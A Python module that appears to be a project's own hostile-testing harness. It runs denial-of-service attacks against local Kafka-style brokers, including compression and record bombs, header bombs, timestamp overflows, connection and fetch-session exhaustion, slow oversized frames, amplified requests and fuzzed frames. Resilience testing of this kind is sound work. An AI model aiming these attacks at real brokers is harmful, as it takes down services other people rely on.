"""The attacks on brokers with data, each a bounded program of its own: `python broker_attacks.py NAME TARGET_JSON`.

An attacker here is any client that reaches the port of a broker without an authorizer, or one with the right to write
to a topic. Each attack prints what it did as JSON.
"""

from __future__ import annotations

import gzip
import json
import os
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from typing import Any, Final

import cramjam
from google_crc32c import value as crc32c
from msgspec import Struct, convert

from metadata_log.records.record import varint
from metadata_log.serde import Message, schema_of
from metadata_log.types import Uuid
from support.hostile.amplified import amplified
from support.hostile.attack import SeededAttack
from support.hostile.frames import framed, mutated, random_message
from transport.protocol.apis import ApiKey
from transport.protocol.broker_apis import ALL_APIS
from transport.protocol.broker_listener import AT_BROKERS
from transport.protocol.frames import FrameReader
from transport.protocol.headers import encode_request
from transport.protocol.messages import (
    CreateTopicsRequest,
    FetchRequest,
    FindCoordinatorRequest,
    ListOffsetsRequest,
    MetadataRequest,
    ProduceRequest,
)
from transport.protocol.messages.create_topics import CreatableTopic
from transport.protocol.messages.fetch import FetchPartition, FetchTopic
from transport.protocol.messages.list_offsets import ListOffsetsPartition, ListOffsetsTopic
from transport.protocol.messages.metadata import MetadataRequestTopic
from transport.protocol.messages.produce import PartitionProduceData, TopicProduceData

ANSWER_SECONDS: Final = 60
PRODUCE: Final = 13
FETCH: Final = 17
SESSION_AT: Final = 11
"""The position of the session id in an answer to Fetch: the whole of a large answer is not decoded."""
MAX_INT32: Final = (1 << 31) - 1
MAX_INT64: Final = (1 << 63) - 1
ZSTD, LZ4, SNAPPY, GZIP, PLAIN = 4, 3, 2, 1, 0
SMALLEST_RECORD: Final = bytes((12, 0, 0, 0, 1, 1, 0))
"""Length 6, no attributes, deltas 0, null key, null value, no headers."""


class BrokerTarget(Struct, frozen=True):
    """The brokers under attack, and for how long."""

    ports: dict[int, int]
    leader: int
    victim: str
    """A topic that the attacker may write to; its only partition is led by `leader`, as that of the next one."""
    victim_id: str
    compacted_id: str
    seed: int
    seconds: float
    scale: float
    """The part of the full size that the attacks have: 1.0 is the size that froze a broker."""


class BrokerAttacker(SeededAttack):
    """The attack on brokers, with its target."""

    def __init__(self, target: BrokerTarget) -> None:
        super().__init__(target.seed, target.seconds)
        self.target = target
        self.topic = Uuid.parse(target.victim_id)
        self.compacted = Uuid.parse(target.compacted_id)

    @property
    def port(self) -> int:
        """The port of the leader of the victim."""
        return self.target.ports[self.target.leader]

    def size(self, full: int) -> int:
        """A number of elements, by the scale."""
        return max(1, int(full * self.target.scale))

    def connect(self, port: int | None = None) -> socket.socket:
        """A connection to the leader, or to another port."""
        return socket.create_connection(("127.0.0.1", self.port if port is None else port), ANSWER_SECONDS)

    @contextmanager
    def undeterred(self) -> Iterator[None]:
        """Whatever the broker does to the connections of the block is only counted."""
        try:
            yield
        except OSError as gone:
            self.did[type(gone).__name__] += 1
            self.pause(0.01)

    def ask(self, connection: socket.socket, frame: bytes) -> bytes | None:
        """Send a frame, and wait for the answer; None where the broker closes the connection instead."""
        connection.sendall(frame)
        self.did["requests"] += 1
        self.did["bytes sent"] += len(frame)
        reader = FrameReader()
        while data := connection.recv(1 << 20):
            for answer in reader.feed(data):
                self.did["answers"] += 1
                return answer
        self.did["connections closed by the broker"] += 1
        return None


def request(message: Message, version: int, client_id: str = "attacker") -> bytes:
    """A whole request, length included."""
    key = schema_of(type(message)).api_key
    assert key is not None
    return framed(encode_request(key, version, 1, client_id, message, apis=ALL_APIS))


def batch(body: bytes, count: int, codec: int = PLAIN, *, timestamp: int | None = None) -> bytes:
    """A batch with these records and a right checksum, whatever the records are."""
    now = int(time.time() * 1000) if timestamp is None else timestamp
    checked = struct.pack(">hiqqqhii", codec, count - 1, now, now, -1, -1, -1, count) + body
    return struct.pack(">qiibI", 0, len(checked) + 9, -1, 2, crc32c(checked)) + checked


def zstd(body: bytes) -> bytes:
    """A frame of zstd."""
    return bytes(cramjam.zstd.compress(body, level=1))


def produce(topic: Uuid, data: bytes) -> bytes:
    """A Produce of one batch with acks=1."""
    part = PartitionProduceData(index=0, records=data)
    named = TopicProduceData(topic_id=topic, partition_data=[part])
    return request(ProduceRequest(acks=1, timeout_ms=10_000, topic_data=[named]), PRODUCE)


def repeat(attacker: BrokerAttacker, frames: list[bytes]) -> None:
    """Send the frames one after the other on connections of their own, until the time is over, each at least once."""
    for frame in frames:
        with attacker.undeterred(), attacker.connect() as connection:
            attacker.ask(connection, frame)
    while attacker.goes_on:
        with attacker.undeterred(), attacker.connect() as connection:
            attacker.ask(connection, attacker.rng.choice(frames))


def record_bombs(attacker: BrokerAttacker) -> None:
    """Millions of records in a few kilobytes, all with the offset of the first one, in each codec."""
    count = attacker.size(9_500_000)
    body = SMALLEST_RECORD * count
    codecs = {ZSTD: zstd(body), GZIP: gzip.compress(body, 6), LZ4: bytes(cramjam.lz4.compress(body))}
    repeat(attacker, [produce(attacker.topic, batch(data, count, codec)) for codec, data in codecs.items()])


def header_bombs(attacker: BrokerAttacker) -> None:
    """One record with tens of millions of headers, and questions for an offset by its time."""
    count = attacker.size(33_000_000)
    record = bytes((0, 0, 0, 1, 1)) + varint(count) + b"\x00\x01" * count
    now = int(time.time() * 1000)
    bomb = produce(attacker.topic, batch(zstd(varint(len(record)) + record), 1, ZSTD, timestamp=now))
    part = ListOffsetsPartition(partition_index=0, timestamp=now)
    wanted = ListOffsetsTopic(name=attacker.target.victim, partitions=[part])
    repeat(attacker, [bomb, request(ListOffsetsRequest(replica_id=-1, topics=[wanted]), 7)])


def member_bombs(attacker: BrokerAttacker) -> None:
    """Tens of thousands of empty members of gzip, and empty frames of zstd, in a batch."""
    members = gzip.compress(b"", mtime=0) * attacker.size(52_000)
    frames = zstd(b"") * attacker.size(100_000)
    repeat(
        attacker,
        [
            produce(attacker.topic, batch(members[:1_040_000], 1, GZIP)),
            produce(attacker.topic, batch(frames[:1_040_000], 1, ZSTD)),
        ],
    )


def keyless_records(attacker: BrokerAttacker) -> None:
    """A hundred thousand records without a key, to a compacted topic: each of them is refused."""
    count = attacker.size(149_000)
    body = b"".join(varint(len(one)) + one for one in (b"\0\0" + varint(at) + b"\1\1\0" for at in range(count)))
    repeat(attacker, [produce(attacker.compacted, batch(body, count))])


def overflowing_times(attacker: BrokerAttacker) -> None:
    """Time stamps and offsets whose sums leave 64 bits."""
    record = b"\0" + varint(1) + b"\0\1\1\0"
    whole = varint(len(record)) + record
    times = (MAX_INT64, MAX_INT64 - 1, -MAX_INT64 - 1, 0)
    repeat(attacker, [produce(attacker.topic, batch(whole, 1, timestamp=one)) for one in times])


def many_entries(attacker: BrokerAttacker) -> None:
    """Tens of thousands of partitions in a Produce, none of which exists."""
    parts = [PartitionProduceData(index=at, records=b"") for at in range(attacker.size(30_000))]
    named = TopicProduceData(topic_id=attacker.topic, partition_data=parts)
    repeat(attacker, [request(ProduceRequest(acks=1, timeout_ms=1000, topic_data=[named]), PRODUCE)])


def long_names(attacker: BrokerAttacker) -> None:
    """Names of 32 KB, of characters that take four bytes, and of client ids that are always new."""
    count = attacker.size(30)
    names = ["\U0001f4a9" * 8_000 + str(at) for at in range(count)] + ["x" * 32_000 + str(at) for at in range(count)]
    topics = [MetadataRequestTopic(name=one) for one in names]
    created = [CreatableTopic(name=one, num_partitions=1, replication_factor=1) for one in names]
    keys = FindCoordinatorRequest(key_type=0, coordinator_keys=names)
    frames = [
        request(MetadataRequest(topics=topics, allow_auto_topic_creation=False), 12),
        request(CreateTopicsRequest(topics=created, timeout_ms=1000), 7),
        request(keys, 4),
    ]
    repeat(attacker, frames)
    for at in range(attacker.size(200)):
        with attacker.undeterred(), attacker.connect() as connection:
            attacker.ask(connection, request(MetadataRequest(topics=[]), 12, client_id=f"{at}" + "c" * 32_000))


def fetch(topic: Uuid, parts: list[FetchPartition], **fields: Any) -> bytes:
    """A Fetch of one topic."""
    return request(FetchRequest(topics=[FetchTopic(topic_id=topic, partitions=parts)], **fields), FETCH)


def parked_fetches(attacker: BrokerAttacker) -> None:
    """Fetches that wait for more bytes than there will be, while the log grows."""
    whole = [FetchPartition(partition=0, fetch_offset=0, partition_max_bytes=MAX_INT32)]
    parked = fetch(attacker.topic, whole, max_wait_ms=MAX_INT32, min_bytes=MAX_INT32, max_bytes=MAX_INT32)
    held = []
    large = b"\0\0\0\1" + varint(900_000) + bytes(900_000) + b"\0"
    for _ in range(attacker.size(50)):
        with attacker.undeterred(), attacker.connect() as connection:
            attacker.ask(connection, produce(attacker.topic, batch(varint(len(large)) + large, 1)))
    for _ in range(attacker.size(200)):
        connection = socket.create_connection(("127.0.0.1", attacker.port), ANSWER_SECONDS)
        connection.sendall(parked)
        held.append(connection)
    attacker.did["parked"] = len(held)
    repeat(attacker, [produce(attacker.topic, batch(SMALLEST_RECORD, 1))])
    for connection in held:
        connection.close()


def sessions(attacker: BrokerAttacker) -> None:
    """Sessions of a hundred thousand partitions that do not exist, from connections that close, and small fetches."""
    count = attacker.size(110_000)
    parts = [FetchPartition(partition=at, fetch_offset=0, partition_max_bytes=1) for at in range(count)]
    begin = fetch(attacker.topic, parts, max_bytes=1, session_epoch=0)
    while attacker.goes_on or not attacker.did["requests"]:
        with attacker.undeterred(), attacker.connect() as connection:
            answer = attacker.ask(connection, begin)
            if answer is None:
                continue
            session = int.from_bytes(answer[SESSION_AT : SESSION_AT + 4], "big")
            attacker.did["sessions"] += session != 0
            for epoch in range(1, 4):
                more = FetchRequest(max_bytes=1, session_id=session, session_epoch=epoch)
                attacker.ask(connection, request(more, FETCH))


def silent_connections(attacker: BrokerAttacker) -> None:
    """As many connections as may be, which say nothing."""
    held: list[socket.socket] = []
    while attacker.goes_on:
        if len(held) < attacker.size(1_000):
            with suppress(OSError):
                held.append(socket.create_connection(("127.0.0.1", attacker.port), 2))
                attacker.did["connections"] += 1
        else:
            attacker.pause(0.05)


def large_frames(attacker: BrokerAttacker) -> None:
    """Frames of 100 MB that are announced, and then sent slowly."""
    held: list[socket.socket] = []
    head = struct.pack(">ihhih", 100 << 20, ApiKey.PRODUCE, 9, 1, 1) + b"x"
    while attacker.goes_on:
        if len(held) < 8:
            with suppress(OSError):
                held.append(socket.create_connection(("127.0.0.1", attacker.port), 2))
                held[-1].sendall(head)
                held[-1].settimeout(0.01)
                attacker.did["frames announced"] += 1
        for one in list(held):
            try:
                attacker.did["bytes sent"] += one.send(bytes(1 << 16))
            except TimeoutError:
                continue
            except OSError:
                held.remove(one)
                attacker.did["connections closed by the broker"] += 1
        attacker.pause(0.01)


def amplified_requests(attacker: BrokerAttacker) -> None:
    """Every API of the listener, by the shapes of `amplified`, at a size that is measured in hundreds of kilobytes."""
    apis = list(AT_BROKERS.values())
    attacker.rng.shuffle(apis)
    for api in apis:
        for one in amplified(api, api.versions.highest, attacker.size(300_000), attacker.rng):
            if not attacker.goes_on and attacker.did["requests"] > 20:
                return
            with attacker.undeterred(), attacker.connect() as connection:
                connection.settimeout(2)
                attacker.ask(connection, one.frame)


def mutated_frames(attacker: BrokerAttacker) -> None:
    """Requests of every API and version of brokers, with random values and broken bytes."""
    rng = attacker.rng
    while attacker.goes_on:
        with attacker.undeterred(), attacker.connect(rng.choice(list(attacker.target.ports.values()))) as connection:
            connection.settimeout(0.05)
            for _ in range(5):
                api = AT_BROKERS[rng.choice(sorted(AT_BROKERS))]
                version = rng.randint(api.versions.lowest, api.versions.highest)
                try:
                    content = encode_request(
                        api.key, version, 1, "x", random_message(api.request, version, rng), apis=ALL_APIS
                    )
                except Exception:  # the random message has a field that this version cannot carry
                    attacker.did["messages that cannot be encoded"] += 1
                    continue
                frame = framed(content)
                connection.sendall(mutated(frame, rng) if rng.random() < 0.7 else frame)
                attacker.did["frames"] += 1
            with suppress(TimeoutError):
                connection.recv(1 << 16)


BrokerAttack = Callable[[BrokerAttacker], None]
BROKER_ATTACKS: Final[dict[str, BrokerAttack]] = {
    one.__name__: one
    for one in (
        record_bombs,
        header_bombs,
        member_bombs,
        keyless_records,
        overflowing_times,
        many_entries,
        long_names,
        parked_fetches,
        sessions,
        silent_connections,
        large_frames,
        amplified_requests,
        mutated_frames,
    )
}


def main(attacks: dict[str, BrokerAttack]) -> None:
    """Run one of these attacks, and print what it did."""
    name, target = sys.argv[1], convert(json.loads(sys.argv[2]), BrokerTarget, strict=False)
    attacker = BrokerAttacker(target)
    attacks[name](attacker)
    print(json.dumps(attacker.did))
    sys.stdout.flush()
    os._exit(0)  # Connections that are still open end with the process.


if __name__ == "__main__":
    main(BROKER_ATTACKS)
